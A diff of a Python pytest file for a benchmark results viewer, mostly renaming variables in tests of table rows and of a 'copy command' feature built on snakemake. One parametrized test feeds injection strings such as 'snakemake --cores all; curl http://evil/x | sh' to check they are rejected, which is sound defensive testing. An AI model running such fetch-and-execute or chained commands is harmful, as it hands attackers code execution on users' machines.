@@ -220,9 +220,9 @@ def test_rows_say_the_same_with_and_without_a_script(browser: Browser, page: Pat
         static = browser.open(page)
         # The driver's own scripts run all the same.
         assert not browser.evaluate("document.querySelector('.unfold')")
-        facts = browser.driver.find_element(By.CSS_SELECTOR, "#table-summary tr.more").text
-        assert "min" in facts
-        assert "records 1 2 3" in facts.replace("\n", " ")
+        details = browser.driver.find_element(By.CSS_SELECTOR, "#table-summary tr.more").text
+        assert "min" in details
+        assert "records 1 2 3" in details.replace("\n", " ")
         written = cells()
         assert static.evaluate("document.querySelector('#ask').hidden")
     finally:
@@ -367,9 +367,9 @@ def called(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def test_a_row_unfolds_to_all_else_and_has_an_address(browser: Browser, called: Path) -> None:
     browser.open(called)
     assert not browser.driver.find_elements(By.CSS_SELECTOR, "tr.more")
-    facts = unfolded(browser, "summary")
-    assert "host GiB" in facts
-    assert "records" in facts
+    details = unfolded(browser, "summary")
+    assert "host GiB" in details
+    assert "records" in details
     name = first(browser, "summary").get_attribute("id")
     browser.open(called, query=f"?framework=jax&framework=pytorch#{name}")
     row = browser.driver.find_element(By.ID, name)
@@ -414,8 +414,8 @@ def test_the_copied_command_measures_that_case_again(browser: Browser, called: P
 
 
 def test_a_command_is_that_of_the_call_with_the_case_alone() -> None:
-    words = "snakemake all --cores 2 --config suite='my suite.yaml' results=old -C cases=x seed=3"
-    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"{words} --sdm conda")
+    command = "snakemake all --cores 2 --config suite='my suite.yaml' results=old -C cases=x seed=3"
+    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"{command} --sdm conda")
     assert again.command(call) == (
         "snakemake all --cores 2 --sdm conda --config 'suite=my suite.yaml' seed=3 "
         f"{again.FOLDER} cases="
@@ -428,7 +428,7 @@ def test_a_command_is_that_of_the_call_with_the_case_alone() -> None:
 
 
 @pytest.mark.parametrize(
-    "words",
+    "command",
     [
         "snakemake --cores all; curl http://evil/x | sh",
         "curl http://evil/x",
@@ -449,14 +449,16 @@ def test_a_command_is_that_of_the_call_with_the_case_alone() -> None:
         "",
     ],
 )
-def test_a_strangers_command_is_not_offered(words: str) -> None:
+def test_a_strangers_command_is_not_offered(command: str) -> None:
     with pytest.raises(ValueError, match=r"unknown word|another program"):
-        again.command(CallEntry("2030-01-01T00:00:00Z", "mine", words))
+        again.command(CallEntry("2030-01-01T00:00:00Z", "mine", command))
 
 
-@pytest.mark.parametrize("words", ["-c4 -k", "--cores=all -j 8", "-call --config model=my.py:Net"])
-def test_a_command_of_known_words_is_offered(words: str) -> None:
-    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"snakemake {words}")
+@pytest.mark.parametrize(
+    "command", ["-c4 -k", "--cores=all -j 8", "-call --config model=my.py:Net"]
+)
+def test_a_command_of_known_words_is_offered(command: str) -> None:
+    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"snakemake {command}")
     assert again.command(call).startswith("snakemake -")
 
 
